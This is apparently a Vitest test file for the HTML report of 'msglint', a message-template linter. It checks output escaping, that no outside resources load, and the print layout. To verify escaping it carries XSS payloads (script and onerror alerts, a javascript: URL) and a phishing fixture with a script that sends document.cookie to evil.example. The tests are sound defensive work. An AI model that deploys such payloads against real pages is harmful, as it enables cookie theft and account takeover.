import { describe, expect, it } from 'vitest';

import { createLinter, lintParsed, runLint } from '../../src/lint.js';
import { escapeHtml, formatHtml, gaugeSvg, MAX_DETAILED_DOCUMENTS, MAX_FINDINGS_SHOWN, safeHref } from '../../src/report/html.js';
import { scoreFindings } from '../../src/scoring/risk.js';
import type { DocumentResult, Finding, LintReport } from '../../src/types.js';
import { ROOT } from '../helpers/cli.js';
import { parseText } from '../helpers/docs.js';
import { resourceLoads } from './html-helpers.js';

const NOW = new Date('2026-11-20T00:00:00Z');

const hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>';

function finding(over: Partial<Finding>): Finding {
  return { ruleId: 'phrasing/x', area: 'phrasing', severity: 'warning', message: 'm', path: '/components/0/text', line: 3, column: 5, endLine: 3, endColumn: 9, weight: 10, file: 'a.yaml', ...over };
}

function hostileReport(): LintReport {
  const findings = [
    finding({ message: `'${hostile}' reads as spam`, fix: `Remove ${hostile}`, matchedText: '<b>act</b> now', source: 'javascript:alert(1)', path: `/x/${hostile}` }),
    finding({ ruleId: 'content/y', area: 'content', severity: 'error', weight: 70, line: 4, source: 'https://business.whatsapp.com/policy?a=1&b="2"' }),
  ];
  const doc: DocumentResult = { file: `templates/${hostile}.yaml`, kind: 'template', name: hostile, language: 'en_US', findings, risk: scoreFindings(findings, true) };
  return { version: 1, tool: { name: 'msglint', version: '1.2.3' }, results: [doc], summary: { files: 1, documents: 1, errors: 1, warnings: 1, infos: 0 } };
}

describe('HTML report', () => {
  it('escapes every piece of input text: no markup from a template survives', () => {
    const html = formatHtml(hostileReport());
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<b>act/);
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).not.toContain('javascript:');
    expect(html).toContain('href="https://business.whatsapp.com/policy?a=1&amp;b=%222%22"');
  });

  it('escapes a <script> typed into a real template body, through the whole pipeline', async () => {
    const linter = createLinter(ROOT);
    const text = `name: bad_idea
language: en_US
category: UTILITY
components:
  - type: BODY
    text: "To keep your account, reply with your full card number <script>fetch('https://evil.example/'+document.cookie)</script> now"
`;
    const report = await lintParsed(linter, [parseText(text, 'tpl.yaml')], { cwd: '/repo', now: NOW, explain: true });
    expect(report.results[0].findings.length).toBeGreaterThan(0);
    const html = formatHtml(report);
    expect(html).not.toMatch(/<script/i);
    expect(resourceLoads(html)).toEqual([]);
  });

  it('loads nothing: no scripts, stylesheets, images, fonts, imports or url() — only <a> links', async () => {
    const linter = createLinter(ROOT);
    const report = await runLint(linter, { cwd: ROOT, paths: ['fixtures'], now: NOW, explain: true });
    const html = formatHtml(report, { rules: linter.compiled.packs.flatMap((p) => p.rules) });
    expect(resourceLoads(html)).toEqual([]);
    expect(resourceLoads('<link rel="stylesheet" href="https://cdn.example/x.css"><p style="background:url(https://x)">')).toHaveLength(3);
    for (const m of html.matchAll(/<a\b[^>]*href="([^"]*)"/g)) expect(m[1]).toMatch(/^(#doc-\d+|https?:\/\/)/);
  });

  it('has a summary, a gauge per document with findings, findings by area, fixes, positions and sources', async () => {
    const linter = createLinter(ROOT);
    const report = await runLint(linter, { cwd: ROOT, paths: ['fixtures'], now: NOW, explain: true });
    const html = formatHtml(report);
    const withFindings = report.results.filter((r) => r.findings.length > 0 && r.kind !== 'unknown');
    // one in the summary ("highest risk") and one per document section
    expect(html.match(/<svg class="gauge/g)).toHaveLength(withFindings.length + 1);
    expect(html).toContain('Findings by area');
    for (const area of ['opt-in', 'velocity', 'category', 'phrasing', 'format', 'content', 'input']) expect(html).toContain(`>${area}</text>`);
    const card = report.results.flatMap((r) => r.findings).find((f) => f.ruleId === 'content/card-number-request')!;
    expect(html).toContain(`line ${card.line}, columns ${card.column}–${card.endColumn - 1}`);
    expect(html).toContain(escapeHtml(card.fix!));
    expect(html).toMatch(/policy: <a href="https:\/\/[^"]+">/);
    expect(html).toMatch(/Not ready to send|Review before sending|Low risk/);
  });

  it('prints: page margins, no rows or findings cut across pages, colours kept', () => {
    const html = formatHtml(hostileReport());
    expect(html).toContain('@media print');
    expect(html).toContain('@page');
    expect(html).toMatch(/tr,\.finding[^{]*\{break-inside:avoid/);
    expect(html).toContain('thead{display:table-header-group}');
    expect(html).toContain('print-color-adjust:exact');
  });

  it('is deterministic and self-describing', () => {
    expect(formatHtml(hostileReport())).toBe(formatHtml(hostileReport()));
    expect(formatHtml(hostileReport())).toMatch(/^<!DOCTYPE html>\n<html lang="en">/);
  });

  it('stays readable on a big run: details for the riskiest documents, a bounded number of findings each', () => {
    const many = Array.from({ length: MAX_DETAILED_DOCUMENTS + 5 }, (_, i): DocumentResult => {
      const findings = Array.from({ length: i === 0 ? MAX_FINDINGS_SHOWN + 7 : 1 }, (_, k) => finding({ file: `t${i}.yaml`, line: k + 1, weight: i === 0 ? 30 : 5 }));
      return { file: `t${i}.yaml`, kind: 'template', name: `t${i}`, language: 'en_US', findings, risk: scoreFindings(findings, true) };
    });
    const html = formatHtml({ version: 1, tool: { name: 'msglint', version: '1' }, results: many, summary: { files: many.length, documents: many.length, errors: 0, warnings: many.length, infos: 0 } });
    expect(html.match(/<article class="doc"/g)).toHaveLength(MAX_DETAILED_DOCUMENTS);
    expect(html).toContain('5 more documents with findings are listed in the table above but not detailed here');
    expect(html).toContain('7 more findings of lower severity or weight');
    expect(html.match(/<tr><td class="risk">/g)).toHaveLength(many.length);
    // every in-page link has a target
    for (const m of html.matchAll(/href="#([^"]+)"/g)) expect(html).toContain(`id="${m[1]}"`);
  });

  it('draws the gauge arc as long as the score', () => {
    expect(gaugeSvg(0, 'low')).not.toContain('stroke-dasharray="0 100"');
    expect(gaugeSvg(62, 'high')).toContain('stroke-dasharray="62 100"');
    expect(gaugeSvg(62, 'high')).toContain('aria-label="risk 62 of 100, high"');
  });

  it('links only to well-formed http(s) URLs', () => {
    expect(safeHref('https://developers.facebook.com/docs')).toBe('https://developers.facebook.com/docs');
    expect(safeHref('javascript:alert(1)')).toBeUndefined();
    expect(safeHref('data:text/html,hi')).toBeUndefined();
    expect(safeHref('not a url')).toBeUndefined();
  });
});

describe('HTML report with --quiet', () => {
  it('shows errors only, as the terminal does', async () => {
    const { formatReport } = await import('../../src/report/index.js');
    const linter = createLinter(ROOT);
    const report = await runLint(linter, { cwd: ROOT, paths: ['fixtures/templates'], now: NOW, explain: true });
    const findings = report.results.flatMap((r) => r.findings);
    const errorRules = new Set(findings.filter((f) => f.severity === 'error').map((f) => f.ruleId));
    const warning = findings.find((f) => f.severity === 'warning' && !errorRules.has(f.ruleId))!;
    const error = findings.find((f) => f.severity === 'error')!;
    // Messages are listed with their findings only (the score's explanation still shows every contribution).
    expect(formatReport(report, 'html', { color: false, quiet: false })).toContain(escapeHtml(warning.message));
    const quiet = formatReport(report, 'html', { color: false, quiet: true });
    expect(quiet).not.toContain(escapeHtml(warning.message));
    expect(quiet).toContain(escapeHtml(error.message));
  });
});
